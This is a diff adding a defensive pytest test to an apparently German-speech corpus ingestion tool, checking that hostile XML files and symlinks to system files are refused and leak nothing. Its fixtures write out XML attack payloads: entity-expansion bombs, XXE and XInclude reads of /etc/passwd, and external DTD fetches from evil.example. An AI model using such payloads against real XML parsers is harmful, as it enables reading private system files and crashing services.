@@ -287,3 +287,69 @@ def test_oversized_and_deeply_nested_lines_are_skipped(tmp_path: Path, store_pat
     with CorpusStore(store_path) as store:
         keys = sorted(d.record_key for d in store.iter_documents())
     assert keys == ["G1", "G2", "R1", "R2"]  # the records before and after the bad lines went in
+
+
+# -- XML attacks and links to system files ------------------------------------------------------------------
+
+SPEECH = '<text person="Norbert Lammert" titel="Rede am 9. November 2007" datum="2007-11-09"><rohtext>{}</rohtext></text>'
+XML_ATTACKS = {
+    "bombe.xml": ("declares entities", '<!DOCTYPE collection [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
+                  '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><collection>' + SPEECH.format("&c;") + "</collection>"),
+    "xxe.xml": ("external entity", '<!DOCTYPE collection [<!ENTITY x SYSTEM "file:///etc/passwd">]><collection>'
+                + SPEECH.format("Hallo &x;") + "</collection>"),
+    "parameter.xml": ("external entity", '<!DOCTYPE collection [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
+                      "<collection>" + SPEECH.format("Hallo " + GERMAN) + "</collection>"),
+    "dtd.xml": ("external DTD", '<!DOCTYPE collection SYSTEM "http://evil.example/x.dtd"><collection>'
+                + SPEECH.format("Hallo " + GERMAN) + "</collection>"),
+    "xinclude.xml": ("XInclude", '<collection xmlns:xi="http://www.w3.org/2001/XInclude">'
+                     + SPEECH.format('Hallo <xi:include href="/etc/passwd" parse="text"/>') + "</collection>"),
+    "undefined.xml": ("not defined", '<collection>' + SPEECH.format("Hallo &ext; " + GERMAN) + "</collection>"),
+}  # fmt: skip
+
+
+def test_xml_attacks_are_refused_with_the_reason_and_leak_nothing(
+    tmp_path: Path, store_path: Path, runner
+) -> None:
+    import os
+
+    from pipeline.cli import cli
+
+    raw = tmp_path / "raw"
+    raw.mkdir()
+    for name, (_, body) in XML_ATTACKS.items():
+        (raw / name).write_text('<?xml version="1.0" encoding="UTF-8"?>\n' + body, encoding="utf-8")
+    good = (
+        "<!DOCTYPE collection [<!ELEMENT collection (text+)>]><collection>"
+        + SPEECH.format(GERMAN)
+        + "</collection>"
+    )
+    (raw / "gut.xml").write_text(good, encoding="utf-8")
+    os.symlink("/etc/passwd", raw / "passwd.txt")  # a link to a system file under a supported name
+    os.symlink("/etc/hosts", tmp_path / "hosts")
+    os.symlink("/dev/zero", tmp_path / "null.txt")
+    args = [
+        "--store",
+        str(store_path),
+        "ingest",
+        str(raw),
+        str(tmp_path / "hosts"),
+        str(tmp_path / "null.txt"),
+    ]
+    res = runner.invoke(cli, args)
+    assert res.exit_code == 1, res.output
+    lines = res.stderr.strip().splitlines()
+    assert len(lines) == len(XML_ATTACKS) + 3, lines
+    for name, (reason, _) in XML_ATTACKS.items():
+        line = next(ln for ln in lines if ln.startswith(f"{raw / name}: "))
+        assert reason in line and "refused" in line, line
+    link = next(ln for ln in lines if ln.startswith(f"{tmp_path / 'hosts'}: "))
+    assert "symbolic link to /etc/hosts" in link and "unsupported format ''" not in link
+    assert "symbolic link to /etc/passwd" in next(
+        ln for ln in lines if ln.startswith(f"{raw / 'passwd.txt'}: ")
+    )
+    assert "not a regular file" in next(ln for ln in lines if ln.startswith(f"{tmp_path / 'null.txt'}: "))
+    with CorpusStore(store_path) as store:
+        docs = list(store.iter_documents())
+        texts = [p.text for d in docs for p in store.get_pages(d.id)]
+    assert [Path(d.source_path).name for d in docs if d.status == "extracted"] == ["gut.xml"]
+    assert not any("root:" in t or "aaaaaaaaaa" in t for t in texts)
